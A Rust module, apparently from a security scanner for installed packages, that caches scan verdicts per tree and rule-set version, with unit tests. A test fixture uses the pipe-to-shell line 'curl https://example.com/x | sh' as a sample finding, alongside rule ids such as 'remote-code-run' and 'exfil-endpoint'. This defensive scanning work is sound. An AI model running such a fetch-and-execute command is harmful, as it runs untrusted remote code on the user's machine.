//! A scan's verdict as the cache keeps it: the findings that weigh
//! (`warn` and `block`) of one tree under one rule-set version, so that an
//! install of a tree already scanned does not read its files again.

use serde::{Deserialize, Serialize};

use super::{Finding, RULES, RULESET_VERSION, Severity};

/// A finding as stored: its rule by id.
#[derive(Serialize, Deserialize)]
struct Stored {
    rule: String,
    severity: Severity,
    file: String,
    line: Option<usize>,
    message: String,
    excerpt: String,
}

/// The verdict on the tree `tree`, as stored.
#[derive(Serialize, Deserialize)]
struct Kept {
    ruleset: u32,
    tree: String,
    findings: Vec<Stored>,
}

/// The bytes that keep `findings` (those of `warn` and `block` weight)
/// as the verdict on the tree `tree`.
pub(crate) fn encode(tree: &str, findings: &[Finding]) -> Vec<u8> {
    let kept = Kept {
        ruleset: RULESET_VERSION,
        tree: tree.to_string(),
        findings: findings
            .iter()
            .filter(|f| f.severity >= Severity::Warn)
            .map(|f| Stored {
                rule: f.rule.to_string(),
                severity: f.severity,
                file: f.file.clone(),
                line: f.line,
                message: f.message.clone(),
                excerpt: f.excerpt.clone(),
            })
            .collect(),
    };
    serde_json::to_vec(&kept).expect("a verdict serializes")
}

/// The findings `bytes` keep as the verdict on `tree` under this rule
/// set; `None` for another tree, another rule set, or bytes that are not
/// a verdict.
pub(crate) fn decode(tree: &str, bytes: &[u8]) -> Option<Vec<Finding>> {
    let kept: Kept = serde_json::from_slice(bytes).ok()?;
    if kept.ruleset != RULESET_VERSION || kept.tree != tree {
        return None;
    }
    kept.findings
        .into_iter()
        .map(|stored| {
            let rule = RULES.iter().find(|r| r.id == stored.rule)?;
            Some(Finding {
                rule: rule.id,
                severity: stored.severity,
                file: stored.file,
                line: stored.line,
                message: stored.message,
                excerpt: stored.excerpt,
                waived: None,
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(rule: &'static str, severity: Severity) -> Finding {
        Finding {
            rule,
            severity,
            file: "scripts/run.sh".to_string(),
            line: Some(3),
            message: "code fetched from the network is run at once".to_string(),
            excerpt: "curl https://example.com/x | sh".to_string(),
            waived: None,
        }
    }

    #[test]
    fn a_verdict_reads_back_for_its_own_tree_only() {
        let findings = vec![
            finding("remote-code-run", Severity::Block),
            finding("shipped-archive", Severity::Warn),
            finding("exfil-endpoint", Severity::Info),
        ];
        let bytes = encode("h1:abc", &findings);
        let back = decode("h1:abc", &bytes).expect("its own tree");
        assert_eq!(back, findings[..2].to_vec(), "info is not kept");
        assert_eq!(decode("h1:other", &bytes), None);
    }

    #[test]
    fn another_rule_set_or_an_unknown_rule_is_no_verdict() {
        let bytes = encode("h1:abc", &[finding("remote-code-run", Severity::Block)]);
        let text = String::from_utf8(bytes).unwrap();
        let older = text.replace(
            &format!("\"ruleset\":{RULESET_VERSION}"),
            &format!("\"ruleset\":{}", RULESET_VERSION + 1),
        );
        assert_ne!(older, text);
        assert_eq!(decode("h1:abc", older.as_bytes()), None);
        let unknown = text.replace("remote-code-run", "no-such-rule");
        assert_eq!(decode("h1:abc", unknown.as_bytes()), None);
        assert_eq!(decode("h1:abc", b"not json"), None);
    }
}
